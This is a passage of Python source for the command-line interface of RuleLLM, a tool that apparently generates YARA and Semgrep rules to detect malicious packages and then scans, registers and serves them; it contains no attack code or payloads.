    if args.scale < 0.5:
        dataset_config.benign_modules_range = (3, 6)
        dataset_config.benign_pieces_per_module_range = (8, 16)
    suite = ExperimentSuite(dataset_config, RuleLLMConfig.full(model=args.model, seed=args.seed))
    print(suite.table8_baselines().render())
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="rulellm", description=__doc__)
    subparsers = parser.add_subparsers(dest="command", required=True)
    _add_generate(subparsers)
    _add_scan(subparsers)
    _add_evaluate(subparsers)
    args = parser.parse_args(argv)
    if args.command == "generate":
        return _cmd_generate(args)
    if args.command == "scan":
        return _cmd_scan(args)
    if args.command == "evaluate":
        return _cmd_evaluate(args)
    parser.error(f"unknown command {args.command!r}")
    return 2


if __name__ == "__main__":
    raise SystemExit(main())
