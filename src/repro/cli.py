"""Command-line interface (``rulellm``).

Twelve subcommands cover the common workflows:

``rulellm generate``
    Build a synthetic corpus (or load unpacked packages from a directory),
    run the RuleLLM pipeline and write the generated ``.yar`` / ``.yaml``
    rule files to an output directory.

``rulellm scan``
    Scan unpacked package directories with a previously generated rule set
    and print a verdict per package.

``rulellm evaluate``
    Regenerate the paper's headline comparison (Table VIII) at a chosen
    corpus scale.

``rulellm scan-batch``
    Scan many packages at once through the :mod:`repro.scanserve` service:
    atom-prefilter index, result cache and a sharded worker pool, with a
    throughput summary and optional JSON report.

``rulellm pipeline``
    The full closed loop through :mod:`repro.api`: feed packages into a
    :class:`~repro.api.GenerationSession` in incremental batches, generate
    rules stage by stage, auto-publish them into the scan registry, and
    immediately scan the corpus with the freshly published version.

``rulellm orchestrate``
    Sharded generation: publish a baseline version, scan the corpus (which
    fills the scan service's recency ring), then run a
    :class:`~repro.api.GenerationOrchestrator` fleet over the corpus and
    publish its output merged or stacked — the subscribed service re-scans
    the recent window live and reports the detection delta.

``rulellm registry``
    Inspect and manage an on-disk registry directory of versioned rule sets
    (``v1/``, ``v2/``, ... plus an ``ACTIVE`` marker): ``list`` compiles and
    summarises every version, ``activate`` flips the marker, ``retire``
    deletes a non-active version.

``rulellm serve``
    Run the :mod:`repro.gateway` — the long-running async multi-tenant
    front end: an HTTP job queue for scan batches and streaming generation
    feeds, per-tenant token-bucket quotas (429 + ``Retry-After`` on
    rejection), isolated per-tenant registry namespaces, and long-poll
    notification push for publishes and re-scan deltas.

``rulellm client``
    Talk to a running gateway: submit scan jobs and generation feeds
    (from package directories or a synthetic corpus), await or poll job
    status, cancel jobs, read the tenant's notification stream, and pull
    the operational metrics snapshot.

``rulellm arena``
    The continuous rule-quality arena (:mod:`repro.arena`): publish a
    baseline ruleset, replay seeded adversarial + benign traffic rounds
    against it, score and rank every rule on a persistent leaderboard,
    auto-retire decayed rules, and refeed the misses through a generation
    session.  ``leaderboard`` / ``history`` inspect a saved state dir.

``rulellm store``
    Operate a :mod:`repro.store` durable state store: ``fsck`` validates
    the journal and blobs (truncating torn tails, reporting a
    :class:`~repro.store.RecoveryReport`), ``info`` prints epoch/blob
    stats, ``compact`` folds the journal prefix into a snapshot and drops
    replayed segments, ``migrate`` converts a ``v<N>/``+``ACTIVE``
    registry directory into a store.

``rulellm obs``
    Observability (:mod:`repro.obs`): ``spans`` renders the span trees
    recorded by ``--trace`` on orchestrate/serve, ``top`` ranks the
    slowest spans, ``metrics`` scrapes a running gateway's unified
    metrics registry as a table, Prometheus text, or JSON snapshot.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from repro.core import RuleLLM, RuleLLMConfig
from repro.core.rules import GeneratedRuleSet
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner
from repro.evaluation.experiments import ExperimentSuite
from repro.extraction.unpacking import load_package_from_directory


def _add_generate(subparsers) -> None:
    parser = subparsers.add_parser("generate", help="generate YARA & Semgrep rules")
    parser.add_argument("--output", default="generated_rules", help="directory for the rule files")
    parser.add_argument("--model", default="gpt-4o", help="model profile (gpt-4o, claude-3.5-sonnet, ...)")
    parser.add_argument("--scale", type=float, default=0.05,
                        help="synthetic corpus scale relative to the paper (default 0.05)")
    parser.add_argument("--seed", type=int, default=1633)
    parser.add_argument("--packages", default=None,
                        help="directory of unpacked malicious packages to use instead of the synthetic corpus")


def _add_scan(subparsers) -> None:
    parser = subparsers.add_parser("scan", help="scan unpacked packages with generated rules")
    parser.add_argument("--rules", required=True, help="directory written by 'rulellm generate'")
    parser.add_argument("targets", nargs="+", help="unpacked package directories to scan")


def _add_scan_batch(subparsers) -> None:
    parser = subparsers.add_parser(
        "scan-batch", help="scan many packages through the scanserve service"
    )
    parser.add_argument("--rules", required=True, help="directory written by 'rulellm generate'")
    parser.add_argument("targets", nargs="+",
                        help="unpacked package directories, or directories of package directories")
    parser.add_argument("--shards", type=int, default=4, help="worker shards (default 4)")
    parser.add_argument("--mode", choices=["auto", "process", "inprocess"], default="auto",
                        help="worker pool mode (default auto: multiprocessing with in-process fallback)")
    parser.add_argument("--threshold", type=int, default=1,
                        help="rules that must fire to call a package malicious (default 1)")
    parser.add_argument("--no-index", action="store_true",
                        help="disable the atom-prefilter index (naive per-rule scanning)")
    parser.add_argument("--json", default=None, help="write the full batch report to this file")


def _add_pipeline(subparsers) -> None:
    parser = subparsers.add_parser(
        "pipeline",
        help="generate -> auto-publish -> scan end-to-end through repro.api",
    )
    parser.add_argument("--model", default="gpt-4o", help="model profile")
    parser.add_argument("--scale", type=float, default=0.05,
                        help="synthetic corpus scale relative to the paper (default 0.05)")
    parser.add_argument("--seed", type=int, default=1633)
    parser.add_argument("--packages", default=None,
                        help="directory of unpacked malicious packages to use instead of the synthetic corpus")
    parser.add_argument("--batches", type=int, default=2,
                        help="feed the corpus to the session in this many incremental batches (default 2)")
    parser.add_argument("--output", default=None,
                        help="also write the generated rule files to this directory")
    parser.add_argument("--shards", type=int, default=4, help="scan worker shards (default 4)")
    parser.add_argument("--mode", choices=["auto", "process", "inprocess"], default="auto",
                        help="scan worker pool mode (default auto)")
    parser.add_argument("--threshold", type=int, default=1,
                        help="rules that must fire to call a package malicious (default 1)")
    parser.add_argument("--json", default=None, help="write the full batch report to this file")


def _add_orchestrate(subparsers) -> None:
    parser = subparsers.add_parser(
        "orchestrate",
        help="sharded generation fleet -> merged/stacked publish -> live re-scan",
    )
    parser.add_argument("--model", default="gpt-4o", help="model profile")
    parser.add_argument("--scale", type=float, default=0.05,
                        help="synthetic corpus scale relative to the paper (default 0.05)")
    parser.add_argument("--seed", type=int, default=1633)
    parser.add_argument("--packages", default=None,
                        help="directory of unpacked malicious packages to use instead of the synthetic corpus")
    parser.add_argument("--shards", type=int, default=3,
                        help="generation shards in the fleet (default 3)")
    parser.add_argument("--plan", choices=["cluster", "behavior", "round-robin"],
                        default="cluster",
                        help="corpus partitioning strategy (default cluster: merged "
                             "output is identical to a single-session run)")
    parser.add_argument("--publish", choices=["merged", "stacked"], default="merged",
                        help="merged: one union version; stacked: cumulative layers")
    parser.add_argument("--max-workers", type=int, default=None,
                        help="shard sessions run on this many threads (<=1: sequential)")
    parser.add_argument("--baseline", type=float, default=0.4,
                        help="fraction of the corpus used for the baseline version "
                             "whose scan fills the re-scan window (default 0.4, 0 disables)")
    parser.add_argument("--threshold", type=int, default=1,
                        help="rules that must fire to call a package malicious (default 1)")
    parser.add_argument("--output", default=None,
                        help="also write the fleet's merged rule files to this directory")
    parser.add_argument("--registry-dir", default=None,
                        help="save the merged rules as the next version of this "
                             "on-disk registry directory (see 'rulellm registry')")
    parser.add_argument("--store", default=None,
                        help="durable state store directory: the registry recovers "
                             "from (and journals into) it, and every shard "
                             "completion becomes a resumable checkpoint")
    parser.add_argument("--resume", action="store_true",
                        help="with --store: reconcile against prior checkpoints of "
                             "the same run and re-run only the missing shards")
    parser.add_argument("--no-durable-store", action="store_true",
                        help="skip per-record fsyncs in the store (CI/tests)")
    # deterministic crash injection for the CI kill-and-resume smoke test:
    # SIGKILL this process right after the Nth shard checkpoint lands
    parser.add_argument("--sigkill-after-shards", type=int, default=None,
                        help=argparse.SUPPRESS)
    parser.add_argument("--json", default=None,
                        help="write the fleet/re-scan report to this file")
    parser.add_argument("--trace", default=None, metavar="FILE",
                        help="enable end-to-end tracing and append finished "
                             "spans to this JSONL file (see 'rulellm obs')")


def _add_registry(subparsers) -> None:
    parser = subparsers.add_parser(
        "registry",
        help="manage an on-disk registry directory of versioned rule sets",
    )
    actions = parser.add_subparsers(dest="registry_command", required=True)
    list_parser = actions.add_parser("list", help="compile and summarise every version")
    list_parser.add_argument("dir", help="registry directory (v1/, v2/, ... + ACTIVE)")
    activate_parser = actions.add_parser("activate", help="mark a version as active")
    activate_parser.add_argument("dir")
    activate_parser.add_argument("version", type=int)
    retire_parser = actions.add_parser("retire", help="delete a non-active version")
    retire_parser.add_argument("dir")
    retire_parser.add_argument("version", type=int)
    retire_parser.add_argument("--reason", default="",
                               help="why the version is retired (stamped into the "
                                    "RETIRED.json tombstone file)")
    retire_parser.add_argument("--by", default="", dest="retired_by",
                               help="who retired it (operator name or automation id)")


def _add_store(subparsers) -> None:
    parser = subparsers.add_parser(
        "store",
        help="operate a durable state store (journal + blobs + snapshots)",
    )
    actions = parser.add_subparsers(dest="store_command", required=True)

    fsck = actions.add_parser(
        "fsck", help="validate the store, truncating torn journal tails"
    )
    fsck.add_argument("dir", help="store directory (see 'orchestrate --store')")
    fsck.add_argument("--deep", action="store_true",
                      help="re-hash every blob against its content address")
    fsck.add_argument("--json", default=None,
                      help="write the RecoveryReport to this file")

    info = actions.add_parser("info", help="print journal/blob/snapshot stats")
    info.add_argument("dir")
    info.add_argument("--json", default=None)

    compact = actions.add_parser(
        "compact", help="fold the journal prefix into a snapshot and drop it"
    )
    compact.add_argument("dir")

    migrate = actions.add_parser(
        "migrate",
        help="convert a v<N>/+ACTIVE registry directory into a store",
    )
    migrate.add_argument("src", help="registry directory (v1/, v2/, ... + ACTIVE)")
    migrate.add_argument("dest", help="store directory to create")


def _cmd_store(args) -> int:
    import json as json_module

    from repro.store import JournalCorruption, open_store

    if args.store_command == "migrate":
        return _store_migrate(Path(args.src), Path(args.dest))

    root = Path(args.dir)
    if not root.is_dir():
        print(f"no store at {root}", file=sys.stderr)
        return 1
    try:
        store, report = open_store(
            root, deep=getattr(args, "deep", False), create=False
        )
    except JournalCorruption as exc:
        print(f"store {root} unrecoverable: {exc}", file=sys.stderr)
        return 1

    with store:
        if args.store_command == "fsck":
            print(report.describe())
            for note in report.notes:
                print(f"  note: {note}")
            if args.json:
                Path(args.json).parent.mkdir(parents=True, exist_ok=True)
                Path(args.json).write_text(
                    json_module.dumps(report.to_dict(), indent=2, sort_keys=True)
                    + "\n",
                    encoding="utf-8",
                )
                print(f"wrote {args.json}")
            return 0 if report.ok else 1

        if args.store_command == "info":
            details = store.info()
            print(f"store {details['root']}:")
            print(f"  journal: {details['segments']} segment(s), "
                  f"{details['records']} record(s), "
                  f"{details['journal_bytes']} bytes, "
                  f"last epoch {details['last_epoch']}")
            snapshot = details["snapshot_epoch"]
            print(f"  snapshot: "
                  + (f"epoch {snapshot} ({details['manifests']} manifest(s))"
                     if snapshot else "none"))
            print(f"  blobs: {details['blobs']} ({details['bytes']} bytes)")
            for record_type, count in details["records_by_type"].items():
                print(f"    {record_type}: {count}")
            if args.json:
                Path(args.json).parent.mkdir(parents=True, exist_ok=True)
                Path(args.json).write_text(
                    json_module.dumps(details, indent=2, sort_keys=True) + "\n",
                    encoding="utf-8",
                )
                print(f"wrote {args.json}")
            return 0

        if args.store_command == "compact":
            outcome = store.compact()
            print(outcome.describe())
            return 0
    return 2


def _store_migrate(src: Path, dest: Path) -> int:
    """Convert an old ``v<N>/``+``ACTIVE`` registry directory into a store.

    Version numbers are preserved: a gap in the directory (a version
    ``rulellm registry retire`` deleted, or one that no longer parses) is
    consumed by a placeholder publish that is immediately retired through
    the registry, so the journal carries the original tombstone under its
    original number and live versions keep theirs.
    """
    from repro.scanserve import RulesetRegistry
    from repro.store import open_store

    versions = _registry_dir_versions(src)
    if not versions:
        print(f"no versions under {src}", file=sys.stderr)
        return 1
    active = _registry_dir_active(src)
    tombstones = {
        int(record.get("version", 0)): record
        for record in _registry_dir_tombstones(src)
    }

    rulesets: dict[int, GeneratedRuleSet] = {}
    for number, path in versions.items():
        loaded = GeneratedRuleSet.load(path)
        if loaded.rules:
            rulesets[number] = loaded
    if not rulesets:
        print(f"no readable versions under {src}", file=sys.stderr)
        return 1
    highest = max(list(rulesets) + [n for n in tombstones if n > 0])
    filler = rulesets[min(rulesets)]
    if active not in rulesets:
        active = max(rulesets)
        print(f"ACTIVE marker missing or unreadable: activating v{active}")

    store, _report = open_store(dest)
    with store:
        registry = RulesetRegistry(store=store)
        migrated = 0
        for number in range(1, highest + 1):
            if number in rulesets:
                published = registry.publish_generated(
                    rulesets[number], label=versions[number].name,
                    activate=(number == active),
                )
                migrated += 1
                marker = " (active)" if number == active else ""
                print(f"v{number}: {published.rule_count} rules{marker}")
                continue
            tombstone = tombstones.get(number, {})
            registry.publish_generated(
                filler, label=f"migration-gap-v{number}", activate=False
            )
            registry.retire(
                number,
                reason=str(tombstone.get("reason", ""))
                or "unreadable or missing at migration",
                retired_by=str(tombstone.get("retired_by", "")),
            )
            print(f"v{number}: tombstone carried"
                  + (f" ({tombstone['reason']})" if tombstone.get("reason") else ""))
        registry.snapshot()
    print(f"migrated {migrated} version(s) into {dest} "
          f"(recover with RulesetRegistry.from_store or 'orchestrate --store')")
    return 0


def _add_arena(subparsers) -> None:
    parser = subparsers.add_parser(
        "arena",
        help="continuous rule-quality arena: replay, score, rank, retire, refeed",
    )
    actions = parser.add_subparsers(dest="arena_command", required=True)

    run = actions.add_parser(
        "run", help="publish a baseline and run scored traffic rounds against it"
    )
    run.add_argument("--scale", type=float, default=0.02,
                     help="synthetic corpus scale (default 0.02)")
    run.add_argument("--seed", type=int, default=1633)
    run.add_argument("--model", default="gpt-4o",
                     help="model profile for baseline and refeed generation")
    run.add_argument("--rounds", type=int, default=3,
                     help="traffic rounds to run (default 3)")
    run.add_argument("--policy", default="weighted",
                     help="scoring policy: strict | lenient | weighted (default)")
    run.add_argument("--packages-per-round", type=int, default=16)
    run.add_argument("--decay-threshold", type=float, default=0.4,
                     help="score below this counts as a decayed round (default 0.4)")
    run.add_argument("--retire-after", type=int, default=2,
                     help="consecutive decayed rounds before auto-retire (default 2)")
    run.add_argument("--obfuscation-step", type=float, default=0.5,
                     help="per-round increase of the variant obfuscation "
                          "probability (default 0.5: round 0 replays plain, "
                          "later rounds mostly wrapped)")
    run.add_argument("--no-refeed", action="store_true",
                     help="retire decayed rules without regenerating from misses")
    run.add_argument("--state-dir", default=None,
                     help="persist leaderboard.json + rounds.json here (the files "
                          "'rulellm arena leaderboard/history' read)")
    run.add_argument("--store", default=None,
                     help="durable state store directory: the registry recovers "
                          "from it and every round is journaled, so a restarted "
                          "arena continues its round numbering")
    run.add_argument("--json", default=None,
                     help="write the full arena report to this file")

    board = actions.add_parser(
        "leaderboard", help="show a saved leaderboard (see 'arena run --state-dir')"
    )
    board.add_argument("state_dir", help="state dir written by 'arena run'")
    board.add_argument("--limit", type=int, default=10)
    board.add_argument("--json", default=None)

    history = actions.add_parser(
        "history", help="show the saved round history of a state dir"
    )
    history.add_argument("state_dir")
    history.add_argument("--limit", type=int, default=10)
    history.add_argument("--json", default=None)


def _add_serve(subparsers) -> None:
    parser = subparsers.add_parser(
        "serve",
        help="run the async multi-tenant gateway (job queue + quotas + event push)",
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8711,
                        help="listen port (0 picks a free one; default 8711)")
    parser.add_argument("--model", default="gpt-4o",
                        help="model profile used by generation-feed jobs")
    parser.add_argument("--seed", type=int, default=1633)
    parser.add_argument("--workers", type=int, default=2,
                        help="concurrent jobs (default 2)")
    parser.add_argument("--history", type=int, default=64,
                        help="finished jobs kept addressable (default 64)")
    parser.add_argument("--tenant", action="append", default=[],
                        metavar="NAME[:CAPACITY[:REFILL]]",
                        help="pre-register a tenant, optionally with a token-bucket "
                             "burst capacity and refill rate (repeatable)")
    parser.add_argument("--capacity", type=float, default=8.0,
                        help="default tenant burst capacity (default 8)")
    parser.add_argument("--refill", type=float, default=4.0,
                        help="default tenant refill tokens/second (default 4)")
    parser.add_argument("--no-auto-tenant", action="store_true",
                        help="reject unknown tenants instead of auto-registering "
                             "them with the default quota")
    parser.add_argument("--store", default=None,
                        help="durable state store directory: jobs are journaled "
                             "(a restart marks prior in-flight jobs interrupted) "
                             "and each tenant's registry recovers from its "
                             "tenants/<name> substore")
    parser.add_argument("--ready-file", default=None,
                        help="write 'host port' here once listening (for scripts)")
    parser.add_argument("--trace", default=None, metavar="FILE",
                        help="enable request tracing and append finished spans "
                             "to this JSONL file (also served at /trace/<id>)")


def _add_client(subparsers) -> None:
    parser = subparsers.add_parser(
        "client", help="drive a running gateway (see 'rulellm serve')"
    )
    parser.add_argument("--url", default="http://127.0.0.1:8711",
                        help="gateway base URL (default http://127.0.0.1:8711)")
    actions = parser.add_subparsers(dest="client_command", required=True)

    actions.add_parser("health", help="gateway liveness and job counts")

    metrics = actions.add_parser(
        "metrics", help="operational snapshot: per-tenant queues, quotas, rejections"
    )
    metrics.add_argument("--format", choices=["table", "json", "prom"],
                         default="table",
                         help="table: human summary (default); json: the full "
                              "JSON document; prom: Prometheus text exposition")
    metrics.add_argument("--json", default=None,
                         help="write the metrics document to this file")

    def corpus_args(sub):
        sub.add_argument("tenant", help="tenant name")
        sub.add_argument("packages", nargs="*",
                         help="unpacked package directories (or directories of them); "
                              "omit to use a synthetic corpus via --scale")
        sub.add_argument("--scale", type=float, default=0.02,
                         help="synthetic corpus scale when no directories are given")
        sub.add_argument("--seed", type=int, default=1633)
        sub.add_argument("--label", default="")
        sub.add_argument("--wait", type=float, default=0.0,
                         help="seconds to wait for the job to finish (0: submit only)")
        sub.add_argument("--json", default=None,
                         help="write the final job document to this file")

    corpus_args(actions.add_parser("scan", help="submit a scan batch job"))
    generate = actions.add_parser(
        "generate", help="submit a streaming generation feed"
    )
    corpus_args(generate)
    generate.add_argument("--batches", type=int, default=2,
                          help="stream the corpus in this many feed batches (default 2)")

    status = actions.add_parser("status", help="one job's status")
    status.add_argument("tenant")
    status.add_argument("job")
    status.add_argument("--wait", type=float, default=0.0)
    status.add_argument("--json", default=None)

    cancel = actions.add_parser("cancel", help="cancel a job")
    cancel.add_argument("tenant")
    cancel.add_argument("job")

    events = actions.add_parser("events", help="read the notification stream")
    events.add_argument("tenant")
    events.add_argument("--after", type=int, default=0,
                        help="only notifications after this sequence number")
    events.add_argument("--wait", type=float, default=0.0,
                        help="long-poll up to this many seconds for news")
    events.add_argument("--json", default=None)


def _add_evaluate(subparsers) -> None:
    parser = subparsers.add_parser("evaluate", help="regenerate the paper's Table VIII comparison")
    parser.add_argument("--scale", type=float, default=0.05)
    parser.add_argument("--model", default="gpt-4o")
    parser.add_argument("--seed", type=int, default=1633)


def _cmd_generate(args) -> int:
    config = RuleLLMConfig.full(model=args.model, seed=args.seed)
    pipeline = RuleLLM(config)
    if args.packages:
        root = Path(args.packages)
        packages = [load_package_from_directory(path, label="malware")
                    for path in sorted(root.iterdir()) if path.is_dir()]
        if not packages:
            print(f"no package directories found under {root}", file=sys.stderr)
            return 1
    else:
        dataset_config = DatasetConfig(scale=args.scale, seed=args.seed)
        packages = build_dataset(dataset_config).malware
    print(f"generating rules from {len(packages)} malicious packages with {args.model} ...")
    ruleset = pipeline.generate_rules(packages)
    output = ruleset.save(args.output)
    counts = ruleset.counts()
    print(f"wrote {counts['yara']} YARA and {counts['semgrep']} Semgrep rules to {output}")
    return 0


def _cmd_scan(args) -> int:
    ruleset = GeneratedRuleSet.load(args.rules)
    if not ruleset.rules:
        print(f"no rules found under {args.rules}", file=sys.stderr)
        return 1
    scanner = RuleScanner(
        yara_rules=ruleset.compile_yara() if ruleset.yara_rules else None,
        semgrep_rules=ruleset.compile_semgrep() if ruleset.semgrep_rules else None,
    )
    exit_code = 0
    for target in args.targets:
        package = load_package_from_directory(target)
        detection = scanner.scan_package(package)
        verdict = "MALICIOUS" if detection.match_count else "clean"
        if detection.match_count:
            exit_code = 2
        matched = ", ".join(detection.matched_rules[:5]) or "-"
        print(f"{target}: {verdict} ({detection.match_count} rules matched: {matched})")
    return exit_code


_PACKAGE_MARKER_NAMES = {"PKG-INFO", "METADATA", "setup.py", "setup.cfg", "pyproject.toml"}


def _looks_like_package_dir(root: Path) -> bool:
    """A directory is one unpacked package when it carries source files or
    registry metadata at its top level; a corpus directory holds package
    subdirectories and at most stray non-source files (READMEs, indexes)."""
    for entry in root.iterdir():
        if entry.is_file() and (
            entry.suffix in (".py", ".js") or entry.name in _PACKAGE_MARKER_NAMES
        ):
            return True
    return not any(entry.is_dir() for entry in root.iterdir())


def _discover_package_dirs(targets: list[str]) -> list[Path]:
    """Resolve targets: a package directory, or a directory of package dirs."""
    discovered: list[Path] = []
    for target in targets:
        root = Path(target)
        if not root.is_dir():
            raise FileNotFoundError(f"not a directory: {target}")
        if _looks_like_package_dir(root):
            discovered.append(root)
        else:
            skipped = sorted(p.name for p in root.iterdir() if p.is_file())
            if skipped:
                print(
                    f"note: treating {root} as a directory of packages; "
                    f"ignoring stray files: {', '.join(skipped[:5])}",
                    file=sys.stderr,
                )
            discovered.extend(sorted(p for p in root.iterdir() if p.is_dir()))
    return discovered


def _print_verdicts(paths, batch) -> int:
    """Per-target verdict lines; returns how many were flagged malicious."""
    threshold = batch.result.match_threshold
    malicious = 0
    for path, detection in zip(paths, batch.detections):
        flagged = detection.predicted(threshold)
        malicious += flagged
        matched = ", ".join(detection.matched_rules[:5]) or "-"
        print(f"{path}: {'MALICIOUS' if flagged else 'clean'} "
              f"({detection.match_count} rules matched: {matched})")
    return malicious


def _write_report(batch, json_path) -> None:
    if json_path:
        Path(json_path).write_text(batch.to_json() + "\n", encoding="utf-8")
        print(f"wrote report to {json_path}")


def _cmd_scan_batch(args) -> int:
    from repro.scanserve import ScanService, ScanServiceConfig

    ruleset = GeneratedRuleSet.load(args.rules)
    if not ruleset.rules:
        print(f"no rules found under {args.rules}", file=sys.stderr)
        return 1
    try:
        package_dirs = _discover_package_dirs(args.targets)
    except FileNotFoundError as exc:
        print(str(exc), file=sys.stderr)
        return 1
    if not package_dirs:
        print("no package directories found", file=sys.stderr)
        return 1
    packages = [load_package_from_directory(path) for path in package_dirs]

    service = ScanService(
        config=ScanServiceConfig(
            shards=max(1, args.shards),
            mode=args.mode,
            match_threshold=max(1, args.threshold),
            use_index=not args.no_index,
        )
    )
    version = service.publish_generated(ruleset, label=str(args.rules))
    print(f"published ruleset {version.describe()}")
    batch = service.scan_batch(packages)

    malicious = _print_verdicts(package_dirs, batch)
    print(
        f"\nscanned {batch.packages} packages in {batch.elapsed_seconds:.3f}s "
        f"({batch.packages_per_second:.1f} pkg/s, mode={batch.mode}, "
        f"workers={batch.workers}, cache hits={batch.cache_hits})"
    )
    for shard in batch.shard_stats:
        print(
            f"  shard {shard.shard_id}: {shard.packages} packages in "
            f"{shard.seconds:.3f}s ({shard.packages_per_second:.1f} pkg/s)"
        )
    _print_slow_rules(service)
    _write_report(batch, args.json)
    return 2 if malicious else 0


def _print_slow_rules(service, limit: int = 3) -> None:
    slow = service.top_slow_rules(limit)
    if slow:
        print("slowest rules:")
        for cost in slow:
            print(f"  {cost.describe()}")


def _cmd_pipeline(args) -> int:
    from repro.api import GenerationSession, ScanService, ScanServiceConfig

    loaded = _load_malware_corpus(args)
    if loaded is None:
        return 1
    malware, scan_targets, package_dirs = loaded

    service = ScanService(
        config=ScanServiceConfig(
            shards=max(1, args.shards),
            mode=args.mode,
            match_threshold=max(1, args.threshold),
        )
    )
    session = GenerationSession(
        config=RuleLLMConfig.full(model=args.model, seed=args.seed),
        registry=service.registry,
    )

    batches = max(1, min(args.batches, len(malware)))
    chunk = -(-len(malware) // batches)  # ceil division
    total_batches = -(-len(malware) // chunk)  # may be < --batches
    for start in range(0, len(malware), chunk):
        batch = malware[start:start + chunk]
        index = session.add_batch(batch)
        print(f"fed batch {index}/{total_batches} ({len(batch)} packages, "
              f"{session.pending_count} pending)")

    print(f"generating rules with {args.model} ...")
    result = session.generate(label=f"{args.model} pipeline")
    print(result.describe())
    if result.version is None:
        print("no rules survived alignment; nothing published", file=sys.stderr)
        return 1
    print(f"published {result.version.describe()}")
    if args.output:
        output = result.rule_set.save(args.output)
        print(f"wrote rule files under {output}")

    # the freshly published version is already live: scan with zero glue
    batch = service.scan_batch(scan_targets)
    malicious = sum(
        1 for d in batch.detections if d.predicted(batch.result.match_threshold)
    )
    print(
        f"\nscanned {batch.packages} packages with ruleset v{batch.ruleset_version} "
        f"in {batch.elapsed_seconds:.3f}s ({batch.packages_per_second:.1f} pkg/s, "
        f"mode={batch.mode}, workers={batch.workers}): {malicious} flagged malicious"
    )
    if not args.packages:
        confusion = batch.result.confusion()
        print(f"detection: precision {confusion.precision:.2%}, "
              f"recall {confusion.recall:.2%}, f1 {confusion.f1:.2%}")
    else:
        _print_verdicts(package_dirs, batch)
    _print_slow_rules(service)
    _write_report(batch, args.json)
    return 0


def _load_malware_corpus(args):
    """Shared corpus loading for pipeline-style commands.

    Returns ``(malware, scan_targets, package_dirs)`` or an exit code on
    failure.
    """
    if args.packages:
        try:
            package_dirs = _discover_package_dirs([args.packages])
        except FileNotFoundError as exc:
            print(str(exc), file=sys.stderr)
            return None
        malware = [load_package_from_directory(path, label="malware")
                   for path in package_dirs]
        if not malware:
            print(f"no package directories found under {args.packages}",
                  file=sys.stderr)
            return None
        return malware, malware, package_dirs
    dataset_config = DatasetConfig(scale=args.scale, seed=args.seed)
    dataset = build_dataset(dataset_config)
    return dataset.malware, dataset.packages, []


def _add_obs(subparsers) -> None:
    parser = subparsers.add_parser(
        "obs",
        help="inspect traces and metrics (pair with --trace on "
             "orchestrate/serve)",
    )
    actions = parser.add_subparsers(dest="obs_command", required=True)

    spans = actions.add_parser(
        "spans", help="render the span trees recorded in a trace JSONL file"
    )
    spans.add_argument("trace_file",
                       help="JSONL span sink written via --trace")
    spans.add_argument("--trace-id", default=None,
                       help="render only this trace")

    top = actions.add_parser(
        "top", help="slowest spans across a trace JSONL file"
    )
    top.add_argument("trace_file")
    top.add_argument("--limit", type=int, default=10,
                     help="how many spans to show (default 10)")

    metrics = actions.add_parser(
        "metrics", help="the unified metrics registry of a running gateway"
    )
    metrics.add_argument("--url", default="http://127.0.0.1:8711",
                         help="gateway base URL (default http://127.0.0.1:8711)")
    metrics.add_argument("--format", choices=["table", "prom", "json"],
                         default="table",
                         help="table: aligned text (default); prom: Prometheus "
                              "exposition; json: registry snapshot document")


def _read_span_records(path: Path):
    """Span records from a ``--trace`` JSONL sink (None on read failure)."""
    import json as json_module

    try:
        lines = path.read_text(encoding="utf-8").splitlines()
    except OSError as exc:
        print(f"cannot read {path}: {exc}", file=sys.stderr)
        return None
    records = []
    for line in lines:
        line = line.strip()
        if not line:
            continue
        try:
            record = json_module.loads(line)
        except ValueError:
            continue  # torn tail write; the sink is append-only
        if isinstance(record, dict):
            records.append(record)
    return records


def _cmd_obs(args) -> int:
    import json as json_module

    if args.obs_command in ("spans", "top"):
        records = _read_span_records(Path(args.trace_file))
        if records is None:
            return 1
        if not records:
            print(f"no span records in {args.trace_file}", file=sys.stderr)
            return 1
        if args.obs_command == "spans":
            from repro.obs import format_span_tree

            rendered = format_span_tree(records, trace_id=args.trace_id) + "\n"
        else:
            from repro.obs import slowest_spans

            rows = [f"{'ms':>10}  {'span':<24} trace"]
            for record in slowest_spans(records, limit=max(1, args.limit)):
                millis = float(record.get("seconds", 0.0)) * 1000.0
                rows.append(
                    f"{millis:>10.2f}  {record.get('name', '?'):<24} "
                    f"{record.get('trace_id', '')[:16]}"
                )
            rendered = "\n".join(rows) + "\n"
        try:
            sys.stdout.write(rendered)
        except BrokenPipeError:
            pass  # output piped into head; the render already succeeded
        return 0

    # obs metrics: scrape a running gateway
    from repro.gateway import GatewayClient, GatewayError

    client = GatewayClient(args.url)
    try:
        if args.format == "prom":
            rendered = client.metrics_text()
        elif args.format == "json":
            rendered = json_module.dumps(
                client.metrics_snapshot(), indent=2, sort_keys=True
            ) + "\n"
        else:
            from repro.obs import format_metrics_table

            rendered = format_metrics_table(client.metrics_snapshot()) + "\n"
    except GatewayError as exc:
        print(str(exc), file=sys.stderr)
        return 1
    except (ConnectionError, OSError) as exc:
        print(f"cannot reach gateway at {args.url}: {exc}", file=sys.stderr)
        return 1
    try:
        sys.stdout.write(rendered)
    except BrokenPipeError:
        pass  # output piped into head; the scrape already succeeded
    return 0


def _cmd_orchestrate(args) -> int:
    import json as json_module

    from repro.api import (
        BehaviorShardPlan,
        ClusterShardPlan,
        GenerationOrchestrator,
        GenerationSession,
        RoundRobinShardPlan,
        ScanService,
        ScanServiceConfig,
    )

    if args.trace:
        from repro.obs import configure_tracing

        configure_tracing(sink=args.trace)
        print(f"tracing enabled -> {args.trace} (inspect with 'rulellm obs')")

    loaded = _load_malware_corpus(args)
    if loaded is None:
        return 1
    malware, scan_targets, _package_dirs = loaded

    shards = max(1, args.shards)
    plans = {
        "cluster": lambda: ClusterShardPlan(shards),
        "behavior": lambda: BehaviorShardPlan(max_shards=shards),
        "round-robin": lambda: RoundRobinShardPlan(shards),
    }
    store = None
    registry = None
    recovery = None
    if args.store:
        from repro.scanserve import RulesetRegistry
        from repro.store import open_store

        store, recovery = open_store(
            args.store, durable=not args.no_durable_store
        )
        print(recovery.describe())
        registry = RulesetRegistry.from_store(store)
        if registry.versions():
            print(f"recovered registry: {len(registry.versions())} version(s), "
                  f"active v{registry.current_version()}")
    service = ScanService(
        registry=registry,
